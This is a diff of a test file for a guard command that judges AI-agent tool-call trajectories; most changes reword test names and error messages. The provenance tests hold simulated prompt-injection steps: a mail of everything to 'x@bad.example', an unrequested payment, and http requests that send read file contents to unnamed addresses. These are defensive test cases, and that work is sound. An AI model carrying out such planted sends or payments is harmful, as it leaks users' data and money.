@@ -1,4 +1,4 @@
-/** `writ gate`: whole trajectories judged, without a model and without a tool being run. */
+/** `writ gate`: judges whole trajectories without running a model or a tool. */
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { createAgent } from '../../src/assembly/agent.ts'
 import { scriptedModel } from '../../src/model/scripted.ts'
@@ -17,7 +17,7 @@ async function judge(lines: readonly unknown[], args: readonly string[] = []) {
 }
 
 describe('trajectories', () => {
-  test('every call gets the engine’s verdict, and nothing is done', async () => {
+  test('every call gets the engine’s verdict, and nothing is executed', async () => {
     const ended = await judge([
       {
         id: 'a',
@@ -61,7 +61,7 @@ describe('trajectories', () => {
     expect(place.has('.writ')).toBe(false)
   })
 
-  test('a line ends at a line feed only, whatever separators stand in its texts', async () => {
+  test('only a line feed ends a line, whatever other separators its texts contain', async () => {
     const text = 'one\u2028two\u2029three\u0085four\r'
     const ended = await judge([{ id: 'u', task: text, steps: [] }])
     expect(ended).toMatchObject({ code: 0, stderr: '' })
@@ -70,14 +70,14 @@ describe('trajectories', () => {
     expect(scanned.json()).toMatchObject([{ id: 'u', verdict: expect.any(String) }])
   })
 
-  test('a yes that was only imagined is not remembered', async () => {
+  test('an assumed approval does not carry over to the next call', async () => {
     const write = { tool: 'file_write', args: { path: 'made.txt', content: 'x' }, result: 'ok' }
     const ended = await judge([{ id: 1, task: 't', steps: [write, write] }])
     const [line] = ended.json() as [{ calls: { decision: string }[] }]
     expect(line.calls.map(({ decision }) => decision)).toEqual(['ask', 'ask'])
   })
 
-  test('S0-79: state carries over from step to step, past any stop', async () => {
+  test('S0-79: state carries over from step to step, even after a stop', async () => {
     const config = place.file('guard.json', {
       agent: {
         execution: {
@@ -112,7 +112,7 @@ describe('trajectories', () => {
     ])
   })
 
-  test('tools of the line are a stranger’s, and known for that line only', async () => {
+  test('tools defined in a line are untrusted, and exist for that line only', async () => {
     const tools = [
       { name: 'send_money', description: 'Sends money', schema: { type: 'object', required: ['to'] } },
       { name: 'get_balance', annotations: { readOnlyHint: true } },
@@ -133,7 +133,7 @@ describe('trajectories', () => {
     expect(lines[1]?.calls[0]).toMatchObject({ decision: 'deny', reason: 'UNKNOWN_TOOL' })
   })
 
-  test('every tool that a run has is known, and one kept from chats is told apart from one that is not there', async () => {
+  test('every tool of a run is known, and a tool unavailable in chats differs from an unknown one', async () => {
     const agent = await createAgent({ workspace: place.workspace, data: ':memory:', model: scriptedModel([]) })
     const steps = [...agent.tools.map(({ name }) => name), 'no_such_tool'].map((tool) => ({ tool, args: {} }))
     await agent.close()
@@ -147,7 +147,7 @@ describe('trajectories', () => {
       expect(reasons.get(tool)).toBe('TOOL_NOT_ALLOWED')
   })
 
-  test('a tool of the line with the name of one of ours is no looser than ours', async () => {
+  test('a line’s tool with a built-in name cannot loosen the built-in’s rules', async () => {
     const harmless = (name: string) => ({ name, risk: 'Low', trust: 'internal', family: 'memory' })
     const tools = [harmless('shell'), harmless('file_read'), harmless('read_doc'), harmless('git')]
     const steps = [
@@ -172,7 +172,7 @@ describe('trajectories', () => {
     expect(line.results[0]?.verdict).toBe('block')
   })
 
-  test('a run and its trajectory are judged alike', async () => {
+  test('a run and its trajectory get the same verdicts', async () => {
     const steps = [
       { tool: 'memory_store', args: { content: 'x' } },
       { tool: 'search_docs', args: { query: 'x' } },
@@ -203,7 +203,7 @@ describe('trajectories', () => {
     expect(line.calls.map(({ decision }) => decision)).toEqual(['allow', 'deny', 'allow', 'ask', 'deny', 'deny'])
   })
 
-  test('S2-67: the route decides how much risk goes unasked', async () => {
+  test('S2-67: the route sets the risk that needs no approval', async () => {
     const steps = [{ tool: 'file_write', args: { path: 'a', content: '' } }]
     const ended = await judge(
       ['CloudLlm', 'RuleBased', 'FallbackNoOp'].map((route) => ({ id: route, task: 't', route, steps })),
@@ -231,7 +231,7 @@ describe('provenance', () => {
     )
   }
 
-  test('a planted order is asked about, what the user pointed at is not', async () => {
+  test('a prompt injection needs approval, a target from the user’s own source does not', async () => {
     const sending = { tool: 'send_mail', args: { to: 'x@bad.example', body: 'all' }, result: 'sent' }
     const paying = { tool: 'pay', args: { iban: 'DE75512108001245126199', amount: 3 }, result: 'paid' }
     const [planted, pointed, named] = await decisions([
@@ -247,7 +247,7 @@ describe('provenance', () => {
     expect([pointed?.decision, named?.decision]).toEqual(['allow', 'allow'])
   })
 
-  test('what was read is not sent to an address that nobody named', async () => {
+  test('data that was read is not sent to an address the user did not name', async () => {
     const read = { tool: 'file_read', args: { path: 'notes.txt' }, result: 'quarterly numbers' }
     const to = (url: string, more = {}) => ({ tool: 'http_request', args: { url, ...more }, result: 'ok' })
     const [posted, put, bodied, got, named] = await decisions([
@@ -263,12 +263,12 @@ describe('provenance', () => {
     for (const sent of [posted, put, bodied]) {
       expect(sent).toMatchObject({ decision: 'ask', message: expect.stringContaining('[rule: nowhere]') })
     }
-    // The name itself may carry what was read.
+    // The URL itself may contain what was read.
     expect(got).toMatchObject({ decision: 'ask', message: expect.stringContaining('[rule: discloses]') })
     expect(named?.decision).toBe('allow')
   })
 
-  test('one payment asked for is one payment made', async () => {
+  test('a request for one payment allows one payment', async () => {
     const pay = (iban: string) => ({ tool: 'pay', args: { iban, amount: 3 }, result: 'paid' })
     const list = 'Plumber DE75512108001245126199\nPainter LT121000011101001000'
     const steps = [reading('D-2', list), pay('DE75512108001245126199'), pay('LT121000011101001000')]
@@ -281,7 +281,7 @@ describe('provenance', () => {
   })
 })
 
-test('a tool as a server lists it, with what an operator says it does, is understood', async () => {
+test('a tool in MCP form with the operator’s family and target parameters is accepted', async () => {
   const inputSchema = { type: 'object', properties: { handle: { type: 'string' } } }
   const tools = [
     { name: 'notes', inputSchema, family: 'read', title: 'Notes' },
@@ -296,7 +296,7 @@ test('a tool as a server lists it, with what an operator says it does, is unders
   expect(ended.json()).toMatchObject([{ calls: [{ decision: 'allow' }, { decision: 'ask' }] }])
 })
 
-test('a tool is judged by what it is, though its name means something to every object', async () => {
+test('a tool named like an Object.prototype key is judged normally', async () => {
   const names = ['constructor', 'toString', 'hasOwnProperty']
   const tools = names.map((name) => ({ name, risk: 'Low', family: 'read' }))
   const steps = [...names, ...names].map((tool) => ({ tool, args: {}, result: 'words' }))
@@ -308,22 +308,22 @@ test('a tool is judged by what it is, though its name means something to every o
 describe('bad lines', () => {
   const good = { id: 'good', task: 't', steps: [] }
   test.each([
-    ['no JSON', '{"id": 1,', 'LINE_INVALID: -:2: this is not JSON'],
+    ['invalid JSON', '{"id": 1,', 'LINE_INVALID: -:2: not valid JSON'],
     ['a missing task', { id: 1, steps: [] }, '-:2: task:'],
     ['a step without a tool', { ...good, steps: [{ args: {} }] }, '-:2: steps[0].tool:'],
     ['an unknown key', { ...good, stepz: [] }, 'stepz'],
-    ['a misspelt word on a tool', { ...good, tools: [{ name: 'x', Risk: 'High' }] }, 'Risk'],
+    ['a misspelt key of a tool', { ...good, tools: [{ name: 'x', Risk: 'High' }] }, 'Risk'],
     ['an unknown intent', { ...good, intent: 'fun' }, '-:2: intent:'],
     ['an unknown family', { ...good, tools: [{ name: 'x', family: 'web' }] }, '-:2: tools[0].family:'],
-    ['a name that is given twice', { ...good, tools: [{ name: 'x' }, { name: 'x' }] }, '-:2: tools[1].name:'],
-    ['a name that is none', { ...good, tools: [{ name: '!' }] }, '-:2: tools[0].name:'],
-    ['a schema that is none', { ...good, tools: [{ name: 'x', schema: { type: 'nope' } }] }, '-:2: tools[0].schema:'],
+    ['a duplicate name', { ...good, tools: [{ name: 'x' }, { name: 'x' }] }, '-:2: tools[1].name:'],
+    ['an invalid name', { ...good, tools: [{ name: '!' }] }, '-:2: tools[0].name:'],
+    ['an invalid schema', { ...good, tools: [{ name: 'x', schema: { type: 'nope' } }] }, '-:2: tools[0].schema:'],
     [
-      'a line that cannot be worked on',
+      'a line that cannot be processed',
       `{"id":1,"task":"t","steps":[],"tools":[{"name":"x","_meta":${'['.repeat(20_000)}${']'.repeat(20_000)}}]}`,
       'LINE_INVALID: -:2:',
     ],
-  ])('%s is named by line and key, and the good lines around it are judged', async (_name, bad, said) => {
+  ])('%s is reported by line and key, and the valid lines around it are judged', async (_name, bad, said) => {
     const ended = await judge([good, bad, good])
     expect(ended.code).toBe(2)
     const judged = { id: 'good', calls: [], results: [] }
@@ -331,20 +331,20 @@ describe('bad lines', () => {
     expect(ended.stderr).toContain(said)
   })
 
-  test('each of many is named once, and so is a file that is not there', async () => {
+  test('each of many errors is reported once, and so is a missing file', async () => {
     place.file('many.jsonl', `\uFEFF${JSON.stringify(good)}\nno\n${JSON.stringify(good)}\n{}\n`)
     const { code, stderr, json } = await place.writ(['gate', '--jsonl', 'none.jsonl', 'many.jsonl'])
     expect(code).toBe(2)
     expect(json()).toHaveLength(2)
     const told = stderr.split('\n').filter((line) => /^[A-Z_]+: /.test(line))
-    expect(told.map((line) => line.split(' ').slice(0, 2))).toEqual([
-      ['INPUT_UNREADABLE:', 'none.jsonl'],
-      ['LINE_INVALID:', 'many.jsonl:2:'],
-      ['LINE_INVALID:', 'many.jsonl:4:'],
+    expect(told.map((line) => /^([A-Z_]+): (?:cannot read )?(\S+): /.exec(line)?.slice(1))).toEqual([
+      ['INPUT_UNREADABLE', 'none.jsonl'],
+      ['LINE_INVALID', 'many.jsonl:2'],
+      ['LINE_INVALID', 'many.jsonl:4'],
     ])
   })
 
-  test('what is wrong with lines and arguments is said in Chinese to whoever reads Chinese', async () => {
+  test('errors in lines and arguments are in Chinese when the language is Chinese', async () => {
     const unfit = { ...good, steps: [{ tool: 'explore', args: { tasks: [1, 2, 3, 4, 5, 6] } }] }
     place.file('zh.jsonl', `${JSON.stringify({ ...good, stepz: [] })}\n${JSON.stringify(unfit)}\n`)
     const { stderr, json } = await place.writ(['gate', '--jsonl', 'zh.jsonl', '--lang', 'zh'])
@@ -354,13 +354,13 @@ describe('bad lines', () => {
     ])
   })
 
-  test('a file that is not there is named', async () => {
+  test('a missing file is named', async () => {
     const { code, stderr } = await place.writ(['gate', '--jsonl', 'none.jsonl'])
     expect(code).toBe(2)
-    expect(stderr).toContain('INPUT_UNREADABLE: none.jsonl')
+    expect(stderr).toContain('INPUT_UNREADABLE: cannot read none.jsonl')
   })
 
-  test('files are read in turn', async () => {
+  test('files are read in order', async () => {
     place.file('one.jsonl', `${JSON.stringify({ ...good, id: 1 })}\n\n${JSON.stringify({ ...good, id: 2 })}\n`)
     place.file('two.jsonl', JSON.stringify({ ...good, id: 3 }))
     const { code, json } = await place.writ(['gate', '--jsonl', 'one.jsonl', 'two.jsonl'])
